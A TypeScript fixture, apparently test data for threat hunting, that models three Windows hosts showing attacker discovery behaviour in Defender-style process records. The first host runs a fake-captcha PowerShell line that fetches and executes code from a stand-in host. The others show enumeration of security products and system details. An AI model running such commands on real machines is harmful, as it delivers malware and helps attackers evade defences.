/** Windows hosts that gather what clients are, as Defender's hunting tables tell it. */
import { cmd, explorer, type Host, powershell, run, wmic } from "./step.ts";

const label = "collector";
const python = "C:\\Users\\Public\\py\\pythonw.exe";

export const defenderCollectors: readonly Host[] = [
  {
    name: "nvk-lt-0621",
    form: "hunting-csv",
    user: "norvik\\ealm",
    label,
    class: "host-script",
    behaviour:
      "pasted into the Run box: a PowerShell fetches a text, then asks for the PC, the state of Defender and the programs",
    steps: [
      ...run("13:20:24", [1], explorer, [
        [
          powershell,
          '"PowerShell.exe" -w h -c "iex(irm captcha-guard.example/v)" # I am not a robot: Verification ID 5122',
        ],
      ]),
      ...run("13:20:29", [4, 5, 3], powershell, [
        [powershell, "powershell -c Get-ComputerInfo | select OsName,OsVersion,CsModel,CsDomain,OsLanguage"],
        [
          powershell,
          "powershell -c Get-MpComputerStatus | fl AMProductVersion,RealTimeProtectionEnabled,IsTamperProtected",
        ],
        [
          powershell,
          "powershell -c Get-ItemProperty HKLM:\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | select DisplayName",
        ],
        ["whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /groups'],
      ]),
    ],
  },
  {
    name: "nvk-lt-0622",
    form: "hunting-csv",
    user: "norvik\\rhaas",
    label,
    class: "host-burst",
    behaviour:
      "an installer out of downloads searches the running programs for eight products of protection before it goes on",
    steps: [
      {
        time: "20:10:58",
        image: cmd,
        command: '"cmd.exe" /c copy Contrast Contrast.cmd & Contrast.cmd',
        parent: "C:\\Users\\rhaas\\Downloads\\Setup_Full_2026.exe",
      },
      ...run(
        "20:11:03",
        [1, 1, 2, 1],
        cmd,
        [
          ["tasklist.exe", "tasklist"],
          ["findstr.exe", 'findstr  /I "wrsa opssvc"'],
          ["tasklist.exe", "tasklist"],
          ["findstr.exe", 'findstr  "bdservicehost SophosHealth AvastUI AVGUI nsWscSvc ekrn"'],
          [cmd, "cmd /c md 441260"],
        ],
        { parentCommand: '"cmd.exe" /c copy Contrast Contrast.cmd & Contrast.cmd' },
      ),
    ],
  },
  {
    name: "nvk-lt-0623",
    form: "hunting-json",
    user: "norvik\\tnoor",
    label,
    class: "host-burst",
    behaviour:
      "a Python program from a public folder asks for model, board, graphics, patches and the language of the keyboard",
    steps: [
      {
        time: "15:02:31",
        image: python,
        command: "pythonw.exe C:\\Users\\Public\\py\\main.pyw",
        parent: explorer,
      },
      ...run(
        "15:02:40",
        [1, 1, 2, 1, 2],
        python,
        [
          [wmic, "wmic csproduct get uuid,name,vendor"],
          [wmic, "wmic path win32_videocontroller get name"],
          [wmic, "wmic os get caption,osarchitecture,buildnumber"],
          [powershell, "powershell Get-HotFix | Select-Object HotFixID"],
          [powershell, "powershell Get-WinUserLanguageList"],
          [
            wmic,
            "wmic /Node:localhost /Namespace:\\\\root\\SecurityCenter2 Path AntivirusProduct Get displayName",
          ],
        ],
        { parentCommand: "pythonw.exe C:\\Users\\Public\\py\\main.pyw" },
      ),
    ],
  },
];
